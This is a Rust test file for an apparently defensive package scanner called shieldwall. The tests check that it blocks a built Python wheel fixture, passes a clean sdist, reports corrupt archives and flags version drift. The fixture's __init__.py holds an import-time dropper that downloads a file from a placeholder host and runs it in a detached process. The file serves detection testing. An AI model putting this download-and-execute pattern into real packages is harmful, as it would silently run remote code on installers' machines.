//! `shieldwall inspect` and `shieldwall rule` on artifacts built in the
//! test: an inert wheel shaped like an import-time dropper, a clean sdist,
//! and a truncated archive.

use std::io::Write;
use std::path::Path;

use crate::common::shieldwall;

/// An inert wheel whose `__init__.py` downloads to `/tmp` and starts the
/// file detached with the current interpreter, at import. Never run.
fn dropper_wheel(dir: &Path) -> std::path::PathBuf {
    let path = dir.join("fixturepkg-1.0-py3-none-any.whl");
    let mut zip = zip::ZipWriter::new(std::fs::File::create(&path).unwrap());
    let options = zip::write::SimpleFileOptions::default();
    let files = [
        (
            "fixturepkg/__init__.py",
            "import subprocess, sys, urllib.request\n\
             def _bg():\n    urllib.request.urlretrieve('https://payload.example.test/x.pyz', '/tmp/x.pyz')\n    \
             subprocess.Popen([sys.executable, '/tmp/x.pyz'], start_new_session=True)\n_bg()\n",
        ),
        (
            "fixturepkg-1.0.dist-info/METADATA",
            "Metadata-Version: 2.1\nName: fixturepkg\nVersion: 1.0\n\n",
        ),
        (
            "fixturepkg-1.0.dist-info/RECORD",
            "fixturepkg/__init__.py,,\n",
        ),
    ];
    for (name, text) in files {
        zip.start_file(name, options).unwrap();
        zip.write_all(text.as_bytes()).unwrap();
    }
    zip.finish().unwrap();
    path
}

/// A clean sdist: `setup.py` runs `git describe`, the package reads a file.
fn clean_sdist(dir: &Path) -> std::path::PathBuf {
    let path = dir.join("okpkg-2.0.tar.gz");
    let gz = flate2::write::GzEncoder::new(
        std::fs::File::create(&path).unwrap(),
        flate2::Compression::fast(),
    );
    let mut tar = tar::Builder::new(gz);
    let files = [
        (
            "okpkg-2.0/PKG-INFO",
            "Metadata-Version: 2.1\nName: okpkg\nVersion: 2.0\n\n",
        ),
        (
            "okpkg-2.0/setup.py",
            "import subprocess\nfrom setuptools import setup\n\
             v = subprocess.check_output(['git', 'describe']).decode()\nsetup(name='okpkg', version=v)\n",
        ),
        (
            "okpkg-2.0/okpkg/__init__.py",
            "def read(p):\n    return open(p).read()\n",
        ),
    ];
    for (name, text) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(text.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        tar.append_data(&mut header, name, text.as_bytes()).unwrap();
    }
    tar.into_inner().unwrap().finish().unwrap();
    path
}

#[test]
fn blocks_the_dropper_and_passes_the_clean_sdist() {
    let tmp = tempfile::tempdir().unwrap();
    let bad = dropper_wheel(tmp.path());
    let good = clean_sdist(tmp.path());
    let output = shieldwall(tmp.path())
        .args(["inspect", "--no-progress", "-f", "json"])
        .arg(&bad)
        .arg(&good)
        .output()
        .unwrap();
    assert_eq!(
        output.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let json: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(json["schema_version"], 1);
    let artifacts = json["artifacts"].as_array().unwrap();
    assert_eq!(artifacts.len(), 2);
    let dropper = &artifacts[0];
    assert_eq!(dropper["verdict"], "block");
    assert_eq!(dropper["ecosystem"], "PyPI");
    assert_eq!(dropper["name"], "fixturepkg");
    assert_eq!(dropper["version"], "1.0");
    assert!(dropper["score"].as_u64().unwrap() >= 12);
    for finding in dropper["findings"].as_array().unwrap() {
        for key in ["rule", "severity", "stage", "file", "line", "message"] {
            assert!(finding.get(key).is_some(), "finding lacks {key}: {finding}");
        }
    }
    let decisive = &dropper["findings"][0];
    assert_eq!(decisive["stage"], "import");
    assert_eq!(decisive["file"], "fixturepkg/__init__.py");
    assert_eq!(artifacts[1]["verdict"], "pass", "{}", artifacts[1]);
    assert_eq!(artifacts[1]["name"], "okpkg");
    assert_eq!(json["summary"]["block"], 1);

    shieldwall(tmp.path())
        .args(["inspect", "--no-progress", "--fail-on", "never"])
        .arg(&bad)
        .assert()
        .code(0)
        .stdout(predicates::str::contains("BLOCK  fixturepkg 1.0 (PyPI)"))
        .stdout(predicates::str::contains("runs at import"));
    shieldwall(tmp.path())
        .args(["inspect", "--no-progress"])
        .arg(&good)
        .assert()
        .code(0);
}

#[test]
fn a_directory_of_artifacts_is_inspected_whole() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("artifacts");
    std::fs::create_dir(&dir).unwrap();
    dropper_wheel(&dir);
    clean_sdist(&dir);
    shieldwall(tmp.path())
        .args(["inspect", "--no-progress", "--threads", "2"])
        .arg(&dir)
        .assert()
        .code(1)
        .stdout(predicates::str::contains(
            "2 artifacts inspected: 1 block, 0 warn, 1 pass",
        ));
}

#[test]
fn sarif_is_valid_against_the_official_schema() {
    let tmp = tempfile::tempdir().unwrap();
    let bad = dropper_wheel(tmp.path());
    let output = shieldwall(tmp.path())
        .args(["inspect", "--no-progress", "-f", "sarif"])
        .arg(&bad)
        .output()
        .unwrap();
    let text = include_str!("../../../shieldwall-report/tests/schemas/sarif-2.1.0.json").replace(
        r#"^[a-zA-Z]{2}|^[a-zA-Z]{2}-[a-zA-Z]{2}]?$"#,
        r#"^[a-zA-Z]{2}(-[a-zA-Z]{2})?$"#,
    );
    let schema: serde_json::Value = serde_json::from_str(&text).unwrap();
    let validator = jsonschema::validator_for(&schema).unwrap();
    let log: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let errors: Vec<String> = validator
        .iter_errors(&log)
        .map(|e| format!("{e} at {}", e.instance_path()))
        .collect();
    assert!(errors.is_empty(), "{errors:#?}");
    let results = log["runs"][0]["results"].as_array().unwrap();
    assert!(results.iter().any(|r| r["level"] == "error"));
    let rules = log["runs"][0]["tool"]["driver"]["rules"]
        .as_array()
        .unwrap();
    assert!(rules.iter().all(|r| {
        r["help"]["text"]
            .as_str()
            .unwrap()
            .contains("**What it does.**")
    }));
}

#[test]
fn a_truncated_archive_is_an_error_naming_it_and_the_rest_is_reported() {
    let tmp = tempfile::tempdir().unwrap();
    let good = clean_sdist(tmp.path());
    let bytes = std::fs::read(&good).unwrap();
    let truncated = tmp.path().join("cut-1.0.tar.gz");
    std::fs::write(&truncated, &bytes[..bytes.len() / 2]).unwrap();
    let junk = tmp.path().join("junk.whl");
    std::fs::write(&junk, b"not a zip at all").unwrap();
    let output = shieldwall(tmp.path())
        .args(["inspect", "--no-progress", "-f", "json"])
        .arg(&truncated)
        .arg(&junk)
        .arg(&good)
        .output()
        .unwrap();
    let json: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let artifacts = json["artifacts"].as_array().unwrap();
    let cut = artifacts
        .iter()
        .find(|a| a["path"].as_str().unwrap().ends_with("cut-1.0.tar.gz"))
        .unwrap();
    let errors = cut["errors"].as_array().unwrap();
    assert!(
        errors
            .iter()
            .any(|e| e.as_str().unwrap().contains("cut-1.0.tar.gz")),
        "{errors:?}"
    );
    let junk_report = artifacts
        .iter()
        .find(|a| a["path"].as_str().unwrap().ends_with("junk.whl"))
        .unwrap();
    assert!(
        !junk_report["errors"].as_array().unwrap().is_empty(),
        "{junk_report}"
    );
    assert!(
        artifacts
            .iter()
            .any(|a| a["name"] == "okpkg" && a["verdict"] == "pass")
    );
}

#[test]
fn rule_prints_documentation() {
    let tmp = tempfile::tempdir().unwrap();
    shieldwall(tmp.path())
        .args(["rule", "sw-gen-001"])
        .assert()
        .code(0)
        .stdout(predicates::str::contains(
            "# SW-GEN-001: download and execute",
        ))
        .stdout(predicates::str::contains("**False positives.**"));
    shieldwall(tmp.path())
        .arg("rule")
        .assert()
        .code(0)
        .stdout(predicates::str::contains("SW-GEN-002  process spawning"));
    shieldwall(tmp.path())
        .args(["rule", "SW-NOPE-999"])
        .assert()
        .code(2)
        .stderr(predicates::str::contains("no rule `SW-NOPE-999`"));
}

#[test]
fn diff_reports_what_the_new_version_can_do() {
    let tmp = tempfile::tempdir().unwrap();
    let fixtures = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../shieldwall-analyze/tests/fixtures/incidents/mistralai"
    );
    let output = shieldwall(tmp.path())
        .args(["diff", "-f", "json"])
        .arg(format!("{fixtures}/prev"))
        .arg(format!("{fixtures}/bad"))
        .output()
        .unwrap();
    assert_eq!(
        output.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let json: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(json["drift"]["severity"], "critical");
    assert_eq!(json["old"]["verdict"], "pass");
    assert_eq!(json["new"]["verdict"], "block");
    let changes = json["drift"]["changes"].as_array().unwrap();
    assert!(changes.iter().any(|c| c["stage"] == "import"
        && c["kind"] == "capability"
        && c["file"] == "fixture_mistral/client/__init__.py"));
    shieldwall(tmp.path())
        .arg("diff")
        .arg(format!("{fixtures}/prev"))
        .arg(format!("{fixtures}/bad"))
        .assert()
        .code(1)
        .stdout(predicates::str::contains("drift: critical"))
        .stdout(predicates::str::contains(
            "new in 2.4.6: new import capability",
        ));
    // The same version against itself: nothing new.
    shieldwall(tmp.path())
        .arg("diff")
        .arg(format!("{fixtures}/bad"))
        .arg(format!("{fixtures}/bad"))
        .assert()
        .code(0)
        .stdout(predicates::str::contains("no new behavior"));
}
